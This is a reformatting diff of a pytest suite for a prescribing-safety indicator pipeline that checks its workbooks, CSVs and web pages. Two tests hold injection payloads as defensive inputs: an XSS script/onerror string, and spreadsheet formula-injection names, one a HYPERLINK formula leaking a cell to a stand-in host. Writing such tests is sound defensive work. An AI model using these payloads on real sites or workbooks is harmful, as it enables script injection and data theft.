@@ -13,8 +13,8 @@ import pytest
 
 from indicators.catalogue import catalogue
 from pipelines.outputs.analysis import load_analysis
-from pipelines.outputs.report.site import SiteBuilder, data_module, read_data_module
 from pipelines.outputs.disclosure import round_count
+from pipelines.outputs.report.site import SiteBuilder, data_module, read_data_module
 from tests.conftest import MONTHS
 
 SCREENSHOTS = Path(__file__).resolve().parents[2] / "test-output" / "screenshots"
@@ -41,7 +41,9 @@ def icb_data(layout, icb: str) -> dict:
 
 def values(layout, where: str, params: dict):
     with duckdb.connect(str(layout.warehouse / "msi.duckdb"), read_only=True) as con:
-        rel = con.execute(f"SELECT * FROM indicator_values WHERE geography = 'current' AND month = '2026-07' AND {where}", params)
+        rel = con.execute(
+            f"SELECT * FROM indicator_values WHERE geography = 'current' AND month = '2026-07' AND {where}", params
+        )
         cols = [c[0] for c in rel.description]
         return [dict(zip(cols, r)) for r in rel.fetchall()]
 
@@ -62,7 +64,8 @@ def published_value(row):
 
 def suppressed_in_csv(layout, indicator: str, org_type: str, org_code: str) -> bool:
     frame = pl.read_csv(layout.root / "extracts" / "2026-07" / "all_icbs.csv", infer_schema_length=None).filter(
-        (pl.col("indicator_id") == indicator) & (pl.col("org_type") == org_type) & (pl.col("org_code") == org_code))
+        (pl.col("indicator_id") == indicator) & (pl.col("org_type") == org_type) & (pl.col("org_code") == org_code)
+    )
     return frame.height == 1 and bool(frame["suppressed"][0]) and frame["value"][0] is None
 
 
@@ -92,8 +95,9 @@ def test_extract_workbook_matches_indicator_values(run):
             else:
                 assert got == pytest.approx(published_value(want)), ind
         # Change since the programme's 2021 baseline: this sample has no 2021 data, and says so.
-        assert row["ICB baseline (calendar 2021)"] == ("not for patient-level counts" if ind.startswith("pl_")
-                                                       else "no baseline data")
+        assert row["ICB baseline (calendar 2021)"] == (
+            "not for patient-level counts" if ind.startswith("pl_") else "no baseline data"
+        )
         assert row["Better when"] in ("lower is better", "higher is better")
         assert row["Basis"].startswith("patient-level extract" if ind.startswith("pl_") else "public EPD data")
     assert rows["pl_triple_whammy"]["Related indicators"] == "public-data proxy: triple_whammy_expected_per_1000_adults"
@@ -101,16 +105,26 @@ def test_extract_workbook_matches_indicator_values(run):
     assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:N")
     head = [c.value for c in sheet[1]]
     got = {r[0]: dict(zip(head, r)) for r in sheet.iter_rows(min_row=2, values_only=True)}
-    expected = {r["org_code"]: r for r in values(run, "indicator_id = 'methotrexate_10mg_pct' AND org_type = 'practice' "
-                                                      "AND icb_code = $c", {"c": icb})}
+    expected = {
+        r["org_code"]: r
+        for r in values(
+            run, "indicator_id = 'methotrexate_10mg_pct' AND org_type = 'practice' AND icb_code = $c", {"c": icb}
+        )
+    }
     assert set(got) == set(expected) and len(got) > 5
     for code, row in got.items():
         assert row["Numerator"] == pytest.approx(expected[code]["numerator"])
         assert row["Denominator"] == pytest.approx(expected[code]["denominator"])
         assert (row["Value (% of items)"] is None) == (expected[code]["value"] is None)
         assert isinstance(row["Month"], datetime) and isinstance(row["Low numbers"], bool)
-    mtx = {r["org_code"] for r in values(run, "indicator_id = 'methotrexate_10mg_items' AND org_type = 'practice' "
-                                               "AND icb_code = $c AND value > 0", {"c": icb})}
+    mtx = {
+        r["org_code"]
+        for r in values(
+            run,
+            "indicator_id = 'methotrexate_10mg_items' AND org_type = 'practice' AND icb_code = $c AND value > 0",
+            {"c": icb},
+        )
+    }
     head = [c.value for c in wb["Signals"][2]]
     signals = [dict(zip(head, r)) for r in wb["Signals"].iter_rows(min_row=3, values_only=True)]
     # Every practice issuing methotrexate 10 mg tablets is a signal (any item), whatever the small numbers.
@@ -137,12 +151,16 @@ def test_extract_workbook_matches_indicator_values(run):
         if "cut at Excel's 32,767-character cell limit" in text:
             assert text.endswith(f"all {len(listed[ind]):,} presentations are on the Presentations sheet]")
         else:
-            assert sorted(listed.get(ind, [])) == sorted(x for line in text.splitlines()
-                                                         for x in line.split(": ", 1)[1].split("; ") if x)
+            assert sorted(listed.get(ind, [])) == sorted(
+                x for line in text.splitlines() for x in line.split(": ", 1)[1].split("; ") if x
+            )
     assert len(listed["opioid_ome_per_1000_day"]) > 20  # every matched presentation, one row each
     # Each drug group an indicator uses, with every exclusion and its reason (drug_groups.yaml).
     groups = definitions["valproate_per_1000_female_13_54"]["Drug groups: ingredients, and what is left out and why"]
-    assert groups.startswith("@valproate: every valproate") and "Left out, 2 presentations (Lamictal_Tab 25mg (Valpr)" in groups
+    assert (
+        groups.startswith("@valproate: every valproate")
+        and "Left out, 2 presentations (Lamictal_Tab 25mg (Valpr)" in groups
+    )
     nsaid = definitions["nsaid_per_1000_65plus"]["Drug groups: ingredients, and what is left out and why"]
     assert "eye drops (BNF 11.4.2, 11.8.2)" in nsaid and "applied to the skin" in nsaid
     # Each group's chemicals and its differences from the source it follows; each definition's own lists
@@ -161,7 +179,9 @@ def test_extract_workbook_matches_indicator_values(run):
 
 
 def test_report_pages_state_the_baseline(run, browser):
-    assert "no data for the baseline (calendar 2021)" in month_data(run)["england"]["baseline"]["opioid_ome_per_1000_day"]
+    assert (
+        "no data for the baseline (calendar 2021)" in month_data(run)["england"]["baseline"]["opioid_ome_per_1000_day"]
+    )
     page, errors, _, _ = open_page(browser, url(run, "index.html"), "baseline.png")
     assert errors == [] and "no data for the baseline (calendar 2021)" in page.inner_text("#opioid_ome_per_1000_day")
 
@@ -177,9 +197,12 @@ def test_names_are_escaped(run, browser, tmp_path):
     """A name is data, never markup: the data file cannot close a <script> and the page shows the name as text."""
     analysis = load_analysis(run)
     evil = '<script>alert("x")</script><img src=x onerror=alert(1)> & SONS'
-    practice = analysis.assessed.filter((pl.col("org_type") == "practice") & (pl.col("icb_code") == "QOP"))["org_code"][0]
+    practice = analysis.assessed.filter((pl.col("org_type") == "practice") & (pl.col("icb_code") == "QOP"))["org_code"][
+        0
+    ]
     analysis.assessed = analysis.assessed.with_columns(
-        org_name=pl.when(pl.col("org_code") == practice).then(pl.lit(evil)).otherwise(pl.col("org_name")))
+        org_name=pl.when(pl.col("org_code") == practice).then(pl.lit(evil)).otherwise(pl.col("org_name"))
+    )
     builder = SiteBuilder(analysis)
     by_ind: dict = {}
     pcns: dict = {}
@@ -200,8 +223,15 @@ def test_names_are_escaped(run, browser, tmp_path):
     assert page.locator("main img, main script").count() == 0
 
 
-EVIL_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"click me")', "{=1+1}", "http://x.example", "@SUM(1+1)", "+1",
-              "-1+2", "\t=1"]
+EVIL_NAMES = [
+    '=HYPERLINK("http://x.example/?"&A1,"click me")',
+    "{=1+1}",
+    "http://x.example",
+    "@SUM(1+1)",
+    "+1",
+    "-1+2",
+    "\t=1",
+]
 
 
 def test_names_never_become_formulas_or_links(run, tmp_path):
@@ -215,7 +245,8 @@ def test_names_never_become_formulas_or_links(run, tmp_path):
     chosen = dict(zip(practices["org_code"].unique(maintain_order=True).to_list(), EVIL_NAMES))
     assert len(chosen) == len(EVIL_NAMES)
     analysis.assessed = analysis.assessed.with_columns(
-        org_name=pl.col("org_code").replace_strict(chosen, default=pl.col("org_name"), return_dtype=pl.Utf8))
+        org_name=pl.col("org_code").replace_strict(chosen, default=pl.col("org_name"), return_dtype=pl.Utf8)
+    )
     analysis.layout = type(analysis.layout)(tmp_path / "out")
     info = write_extracts(analysis)
     wb = openpyxl.load_workbook(info["folder"] / f"{icb}.xlsx")
@@ -236,9 +267,18 @@ def browser():
     from playwright.sync_api import sync_playwright
 
     with sync_playwright() as p:
-        b = p.chromium.launch(executable_path=CHROMIUM, args=[
-            "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
-            "--disable-component-update", "--disable-sync"])
+        b = p.chromium.launch(
+            executable_path=CHROMIUM,
+            args=[
+                "--no-sandbox",
+                "--disable-gpu",
+                "--disable-quic",
+                "--no-first-run",
+                "--disable-background-networking",
+                "--disable-component-update",
+                "--disable-sync",
+            ],
+        )
         yield b
         b.close()
 
@@ -250,9 +290,14 @@ def open_page(browser, url: str, shot: str):
     page.on("pageerror", lambda e: errors.append(str(e)))
     page.on("request", lambda r: requests.append(r.url))
     page.goto(url)
-    page.wait_for_function("document.querySelectorAll('[data-chart]').length > 0 && Array.from("
-                           "document.querySelectorAll('[data-chart]')).every(e => e.dataset.rendered)", timeout=60_000)
-    charts = page.eval_on_selector_all("[data-chart]", "els => els.map(e => [e.dataset.rendered, !!e.querySelector('svg')])")
+    page.wait_for_function(
+        "document.querySelectorAll('[data-chart]').length > 0 && Array.from("
+        "document.querySelectorAll('[data-chart]')).every(e => e.dataset.rendered)",
+        timeout=60_000,
+    )
+    charts = page.eval_on_selector_all(
+        "[data-chart]", "els => els.map(e => [e.dataset.rendered, !!e.querySelector('svg')])"
+    )
     SCREENSHOTS.mkdir(parents=True, exist_ok=True)
     page.screenshot(path=str(SCREENSHOTS / shot), full_page=False)
     return page, errors, charts, requests
@@ -314,22 +359,31 @@ def test_sortable_tables(run, browser):
 def test_patient_level_rows_are_internal_exact_and_published_controlled(run):
     # indicator_values (internal) holds exact counts, with the grain stated; ICB = sum of its practices.
     icb = values(run, "indicator_id = 'pl_opioid_high_dose_90' AND org_type = 'icb' AND org_code = 'QOP'", {})[0]
-    practices = values(run, "indicator_id = 'pl_opioid_high_dose_90' AND org_type = 'practice' AND icb_code = 'QOP'", {})
+    practices = values(
+        run, "indicator_id = 'pl_opioid_high_dose_90' AND org_type = 'practice' AND icb_code = 'QOP'", {}
+    )
     assert icb["grain"] == "patient" and icb["denominator"] > 0
     assert icb["numerator"] == sum(p["numerator"] for p in practices)
     assert any(1 <= p["numerator"] <= 7 for p in practices), "the sample must have small counts to control"
     # Every published patient count is 0, a multiple of 5 above 7, or suppressed ('*').
     wb = openpyxl.load_workbook(run.root / "extracts" / "2026-07" / "QOP.xlsx")
-    cells = [c for row in wb["Opioids ≥90 mg (patients)"].iter_rows(min_row=2, min_col=7, max_col=8, values_only=True)
-             for c in row]
+    cells = [
+        c
+        for row in wb["Opioids ≥90 mg (patients)"].iter_rows(min_row=2, min_col=7, max_col=8, values_only=True)
+        for c in row
+    ]
     assert "*" in cells
     assert all(c == "*" or c == 0 or (c % 5 == 0 and c > 7) for c in cells)
     published = pl.read_csv(run.root / "extracts" / "2026-07" / "all_icbs.csv")
     patient = published.filter(pl.col("grain") == "patient")
     assert patient.height > 0 and patient.filter(pl.col("numerator").is_between(1, 7)).is_empty()
-    assert round_count(icb["numerator"]) == patient.filter(
-        (pl.col("indicator_id") == "pl_opioid_high_dose_90") & (pl.col("org_code") == "QOP"))["numerator"][0] \
+    assert (
+        round_count(icb["numerator"])
+        == patient.filter((pl.col("indicator_id") == "pl_opioid_high_dose_90") & (pl.col("org_code") == "QOP"))[
+            "numerator"
+        ][0]
         or 1 <= icb["numerator"] <= 7
+    )
 
 
 def _expected_standing(low_is_good, funnel: str, spc: str) -> str:
@@ -351,9 +405,12 @@ def test_overview_matrix_says_where_each_icb_stands_and_links_to_it(run, browser
     page, errors, _, _ = open_page(browser, url(run, "index.html"), "matrix.png")
     assert errors == []
     icbs = pl.read_csv(run.root / "extracts" / "2026-07" / "all_icbs.csv", infer_schema_length=None).filter(
-        pl.col("org_type") == "icb")
+        pl.col("org_type") == "icb"
+    )
     cells = page.eval_on_selector_all(
-        "table.matrix td.cell a", "els => els.map(a => [a.getAttribute('href'), a.parentElement.className, a.innerText])")
+        "table.matrix td.cell a",
+        "els => els.map(a => [a.getAttribute('href'), a.parentElement.className, a.innerText])",
+    )
     assert len(cells) == icbs.height and icbs["org_code"].n_unique() >= 30  # every ICB x indicator
     ind = catalogue()
     # Two marks, worked out here with the test's own rules: the cell's class is the position against England
@@ -371,16 +428,25 @@ def test_overview_matrix_says_where_each_icb_stands_and_links_to_it(run, browser
     got = {href: cls.split()[-1].removeprefix("pos-") for href, cls, _ in cells}
     assert got == positions
     assert {"worse", "better", "within"} <= set(got.values())  # the sample has all three
-    marks = dict(page.eval_on_selector_all("table.matrix td.cell a", """els => els.map(a => [a.getAttribute('href'),
-        (a.querySelector('.var') || {className: 'var var-none'}).className.split(' ').pop().slice(4)])"""))
+    marks = dict(
+        page.eval_on_selector_all(
+            "table.matrix td.cell a",
+            """els => els.map(a => [a.getAttribute('href'),
+        (a.querySelector('.var') || {className: 'var var-none'}).className.split(' ').pop().slice(4)])""",
+        )
+    )
     assert marks == variations
-    titles = page.eval_on_selector_all("table.matrix td.cell:not(.none)", "tds => tds.map(td => td.getAttribute('title'))")
+    titles = page.eval_on_selector_all(
+        "table.matrix td.cell:not(.none)", "tds => tds.map(td => td.getAttribute('title'))"
+    )
     assert all(titles) and not any("better than England" in t and "worse" in t for t in titles)
     legend = page.inner_text(".legend")
     assert "Position against England" in legend and "Variation over time" in legend
     # ICBs in priority order (the sum of their act-on-first list's priorities, shown); columns by harm tier.
-    rows = page.eval_on_selector_all("table.matrix tbody tr:not(.england)",
-                                     "trs => trs.map(tr => Number(tr.querySelector('td.count').innerText.replace(/,/g, '')))")
+    rows = page.eval_on_selector_all(
+        "table.matrix tbody tr:not(.england)",
+        "trs => trs.map(tr => Number(tr.querySelector('td.count').innerText.replace(/,/g, '')))",
+    )
     assert rows == sorted(rows, reverse=True) and rows[0] > rows[-1]
     tiers = page.eval_on_selector_all("table.matrix tr.tiers th.tier", "ths => ths.map(th => th.innerText)")
     assert tiers == ["High harm", "Medium harm", "Low harm"]
@@ -389,7 +455,9 @@ def test_overview_matrix_says_where_each_icb_stands_and_links_to_it(run, browser
     box = page.eval_on_selector("table.matrix", "t => t.getBoundingClientRect().right")
     assert box <= 1400
     # Counts (methotrexate 10 mg items) are whole numbers; rates keep their decimals.
-    mtx = page.eval_on_selector_all("table.matrix td.cell a[href$='#methotrexate_10mg_items'] .v", "els => els.map(e => e.innerText)")
+    mtx = page.eval_on_selector_all(
+        "table.matrix td.cell a[href$='#methotrexate_10mg_items'] .v", "els => els.map(e => e.innerText)"
+    )
     assert mtx and all(v.replace(",", "").isdigit() for v in mtx), mtx
     worse = next(h for h, s in got.items() if s == "worse")
     page.click(f"table.matrix a[href='{worse}']")
@@ -400,7 +468,8 @@ def test_overview_matrix_says_where_each_icb_stands_and_links_to_it(run, browser
 
 def test_search_finds_practices_and_pcns_offline(run, browser):
     practices = pl.read_csv(run.root / "extracts" / "2026-07" / "all_icbs.csv", infer_schema_length=None).filter(
-        (pl.col("org_type") == "practice") & (pl.col("icb_code") == "QOP"))
+        (pl.col("org_type") == "practice") & (pl.col("icb_code") == "QOP")
+    )
     practice = practices.sort("org_code").row(0, named=True)
     page, errors, _, requests = open_page(browser, url(run, "icb.html?code=QOP"), "search-start.png")
     href = f"practice.html?code={practice['org_code']}&month={MONTH}"
@@ -409,14 +478,21 @@ def test_search_finds_practices_and_pcns_offline(run, browser):
     hrefs = page.eval_on_selector_all("#search-results a", "els => els.map(a => a.getAttribute('href'))")
     assert href in hrefs
     # From an ICB's page its own ICB's matches come first, before same-named ones elsewhere in England.
-    in_gm = ["GREATER MANCHESTER" in t for t in page.eval_on_selector_all("#search-results a", "els => els.map(a => a.innerText)")]
+    in_gm = [
+        "GREATER MANCHESTER" in t
+        for t in page.eval_on_selector_all("#search-results a", "els => els.map(a => a.innerText)")
+    ]
     assert in_gm[0] and in_gm == sorted(in_gm, reverse=True)
     # Each result says where it is (PCN by name, ICB, postcode), so same-named practices can be told apart.
     shown = page.inner_text(f"#search-results a[href='{href}']")
-    pcn_row = pl.read_csv(run.root / "extracts" / "2026-07" / "all_icbs.csv", infer_schema_length=None).filter(
-        (pl.col("org_type") == "pcn") & (pl.col("org_code") == practice["pcn_code"])).row(0, named=True)
+    pcn_row = (
+        pl.read_csv(run.root / "extracts" / "2026-07" / "all_icbs.csv", infer_schema_length=None)
+        .filter((pl.col("org_type") == "pcn") & (pl.col("org_code") == practice["pcn_code"]))
+        .row(0, named=True)
+    )
     postcode = pl.read_parquet(run.lake_file("practice_geography", "2026-07")).filter(
-        pl.col("practice_code") == practice["org_code"])["practice_postcode"][0]
+        pl.col("practice_code") == practice["org_code"]
+    )["practice_postcode"][0]
     assert f"practice · {pcn_row['org_name']} · GREATER MANCHESTER · " in shown
     assert shown.endswith(postcode) and len(postcode) >= 6
     page.fill("#search", postcode.lower())  # found by postcode too
@@ -439,14 +515,22 @@ def test_search_finds_practices_and_pcns_offline(run, browser):
 
     ind = catalogue()
     mine = practices.filter(pl.col("org_code") == practice["org_code"])
-    apart = sorted(r["indicator_id"] for r in mine.iter_rows(named=True)
-                   if _expected_standing(ind[r["indicator_id"]].low_is_good, r["funnel"], r["spc"]) != "expected")
-    listed = page.eval_on_selector_all(".flags ul.standing li a", "els => els.map(a => a.getAttribute('href').slice(1))")
+    apart = sorted(
+        r["indicator_id"]
+        for r in mine.iter_rows(named=True)
+        if _expected_standing(ind[r["indicator_id"]].low_is_good, r["funnel"], r["spc"]) != "expected"
+    )
+    listed = page.eval_on_selector_all(
+        ".flags ul.standing li a", "els => els.map(a => a.getAttribute('href').slice(1))"
+    )
     assert sorted(listed) == apart
     sheet = openpyxl.load_workbook(run.root / "extracts" / "2026-07" / "QOP.xlsx")["Signals"]
     head = [c.value for c in sheet[2]]
-    own = [r for r in (dict(zip(head, v)) for v in sheet.iter_rows(min_row=3, values_only=True))
-           if r["Code"] == practice["org_code"] and r["Org"] == "practice"]
+    own = [
+        r
+        for r in (dict(zip(head, v)) for v in sheet.iter_rows(min_row=3, values_only=True))
+        if r["Code"] == practice["org_code"] and r["Org"] == "practice"
+    ]
     # The page opens with the practice's own signals, continuing ones too: each either a line of its table
     # or named among its other signals.
     lines = page.locator(".flags table.actfirst tbody tr").count()
@@ -487,14 +571,18 @@ def test_every_pcn_has_a_page_and_practices_without_one_are_counted(run):
 def test_charts_fill_the_page_and_ranked_charts_stay_readable(run, browser):
     page = browser.new_page(viewport={"width": 1400, "height": 1000})
     page.goto(url(run, "index.html"))
-    page.wait_for_function("document.querySelectorAll('[data-chart]').length > 0 && Array.from("
-                           "document.querySelectorAll('[data-chart]')).every(e => e.dataset.rendered)", timeout=60_000)
+    page.wait_for_function(
+        "document.querySelectorAll('[data-chart]').length > 0 && Array.from("
+        "document.querySelectorAll('[data-chart]')).every(e => e.dataset.rendered)",
+        timeout=60_000,
+    )
     widths = page.eval_on_selector_all("[data-chart] svg", "els => els.map(e => e.getBoundingClientRect().width)")
     assert widths and min(widths) > 550  # two to a row on a 1,400 px page (they were ~300 px)
     # The OME chart of 42 ICBs is ranked (no funnel): at most 30 bars, labels one per bar, none overlapping.
     labels = page.eval_on_selector_all(
         "[data-chart='opioid_ome_per_1000_day-icbs'] g.role-axis-label text",
-        "els => els.map(e => { const b = e.getBoundingClientRect(); return [e.textContent, b.top, b.bottom]; })")
+        "els => els.map(e => { const b = e.getBoundingClientRect(); return [e.textContent, b.top, b.bottom]; })",
+    )
     names = [t for t, _, _ in labels if t[:1].isdigit() and ". " in t]
     assert len(names) == 30 and names[0].startswith("1. ")
     boxes = sorted((top, bottom) for t, top, bottom in labels if t in names)
@@ -530,14 +618,18 @@ def test_ranked_chart_of_hundreds_of_practices_shows_the_worst_thirty(run, brows
     assert errors == [] and len(points) == min(30, len(rows)) and [p["value"] for p in points] == expected
     assert points[0]["label"].startswith("1. ") and points[0]["label"].endswith(f"({points[0]['code']})")
     if len(rows) > 30:
-        assert f"of {len(rows)}" in page.inner_text(f"[data-chart='opioid_ome_per_1000_day-practices']")
+        assert f"of {len(rows)}" in page.inner_text("[data-chart='opioid_ome_per_1000_day-practices']")
 
 
 def test_no_spc_limit_is_drawn_below_zero(run):
     lowers = []
     for path in sorted((run.report(MONTH) / "icb").glob("*.js")):
         for by_kind in read_data_module(path)[1]["trends"].values():
-            found = [by_kind.get("icb")] + list(by_kind.get("pcn", {}).values()) + list(by_kind.get("practice", {}).values())
+            found = (
+                [by_kind.get("icb")]
+                + list(by_kind.get("pcn", {}).values())
+                + list(by_kind.get("practice", {}).values())
+            )
             lowers += [t[5] for t in found if t and len(t) > 5 and t[5] is not None]
     assert lowers and min(lowers) >= 0 and 0 in lowers  # small counts' limits are clipped at zero
 
@@ -565,8 +657,10 @@ def test_charts_draw_every_month_and_the_whole_funnel_band(run, browser):
     shapes = [lines.nth(i).get_attribute("d") for i in range(lines.count())]
     assert errors == [] and len(shapes) == 5  # 95 % and 99.8 % limits either side, and England's line
     assert all(len(re.findall(r"L", d)) >= 10 for d in shapes)
-    points, band = icb.evaluate(f"[document.querySelector('{chart}').vegaView.data('points'), "
-                                f"document.querySelector('{chart}').vegaView.data('band')]")
+    points, band = icb.evaluate(
+        f"[document.querySelector('{chart}').vegaView.data('points'), "
+        f"document.querySelector('{chart}').vegaView.data('band')]"
+    )
     sizes = [p["denominator"] for p in points]
     assert min(b["denominator"] for b in band) <= min(sizes) / 2 and max(b["denominator"] for b in band) >= max(sizes)
 
@@ -582,8 +676,12 @@ def test_every_table_the_run_wrote_has_its_declared_columns(run):
             files = table.files(run)
             assert files, table.name
             for path in files:
-                got = tuple((c[0], c[1]) for c in con.execute(
-                    "DESCRIBE SELECT * FROM read_parquet($p, hive_partitioning = false)", {"p": str(path)}).fetchall())
+                got = tuple(
+                    (c[0], c[1])
+                    for c in con.execute(
+                        "DESCRIBE SELECT * FROM read_parquet($p, hive_partitioning = false)", {"p": str(path)}
+                    ).fetchall()
+                )
                 assert got == table.columns, (table.name, path)
             if table.by_month and table.zone == "warehouse":
                 assert table.months(run) == MONTHS, table.name
@@ -596,8 +694,11 @@ def test_practice_page_lists_the_products_behind_each_numerator(run, browser):
 
     files = [str(f) for f in TABLES["indicator_practice_breakdown"].files(run, MONTHS[-3:])]
     with duckdb.connect() as con:
-        rows = con.execute("SELECT practice_code, bnf_code, sum(items) AS n FROM read_parquet($f) WHERE indicator_id = "
-                           "'nsaid_per_1000_65plus' GROUP BY ALL", {"f": files}).fetchall()
+        rows = con.execute(
+            "SELECT practice_code, bnf_code, sum(items) AS n FROM read_parquet($f) WHERE indicator_id = "
+            "'nsaid_per_1000_65plus' GROUP BY ALL",
+            {"f": files},
+        ).fetchall()
     by_practice: dict = {}
     for practice, bnf, n in rows:
         by_practice.setdefault(practice, {})[bnf] = n
@@ -606,8 +707,12 @@ def test_practice_page_lists_the_products_behind_each_numerator(run, browser):
     expected = sorted(by_practice[code].items(), key=lambda kv: (-kv[1], kv[0]))[:8]
     page, errors, _, _ = open_page(browser, url(run, f"practice.html?code={code}"), "products.png")
     table = page.locator("#nsaid_per_1000_65plus details.products table")
-    shown = [(r[0], float(r[2].replace(",", ""))) for r in
-             table.locator("tbody tr").evaluate_all("trs => trs.map(tr => Array.from(tr.cells).map(c => c.textContent))")]
+    shown = [
+        (r[0], float(r[2].replace(",", "")))
+        for r in table.locator("tbody tr").evaluate_all(
+            "trs => trs.map(tr => Array.from(tr.cells).map(c => c.textContent))"
+        )
+    ]
     assert errors == [] and shown == [(b, float(n)) for b, n in expected]
     assert page.inner_text("#nsaid_per_1000_65plus details.products summary").endswith(f"({len(expected)})")
 
@@ -625,17 +730,23 @@ def test_a_pcn_across_two_icbs_lists_all_its_practices(run, browser, tmp_path):
     moved = members[0]  # this practice now in another ICB, still in the PCN
     assert len(members) >= 2
     analysis.assessed = analysis.assessed.with_columns(
-        icb_code=pl.when((pl.col("org_type") == "practice") & (pl.col("org_code") == moved)).then(pl.lit(other))
-        .otherwise(pl.col("icb_code")))
+        icb_code=pl.when((pl.col("org_type") == "practice") & (pl.col("org_code") == moved))
+        .then(pl.lit(other))
+        .otherwise(pl.col("icb_code"))
+    )
     analysis.layout = type(analysis.layout)(tmp_path / "out")
     build_site(analysis)
     home_data = read_data_module(analysis.layout.report(MONTH) / "icb" / f"{home}.js")[1]
     other_data = read_data_module(analysis.layout.report(MONTH) / "icb" / f"{other}.js")[1]
     assert moved in other_data["practice_pages"] and moved not in home_data["practice_pages"]
     assert moved not in [r[0] for r in home_data["rows"]["nsaid_per_1000_65plus"]["practice"]]  # not the ICB's own
-    page, errors, _, _ = open_page(browser, (analysis.layout.reports / "pcn.html").as_uri() + f"?code={pcn}&month={MONTH}",
-                                   "pcn-two-icbs.png")
-    listed = page.eval_on_selector_all("#nsaid_per_1000_65plus table.practices tbody tr td:first-child",
-                                       "tds => tds.map(td => td.textContent)")
+    page, errors, _, _ = open_page(
+        browser, (analysis.layout.reports / "pcn.html").as_uri() + f"?code={pcn}&month={MONTH}", "pcn-two-icbs.png"
+    )
+    listed = page.eval_on_selector_all(
+        "#nsaid_per_1000_65plus table.practices tbody tr td:first-child", "tds => tds.map(td => td.textContent)"
+    )
     assert errors == [] and sorted(listed) == members
-    assert page.inner_text("main p.meta").startswith(f"Sub-ICB") and f"· {len(members)} practices" in page.inner_text("main p.meta")
+    assert page.inner_text("main p.meta").startswith("Sub-ICB") and f"· {len(members)} practices" in page.inner_text(
+        "main p.meta"
+    )
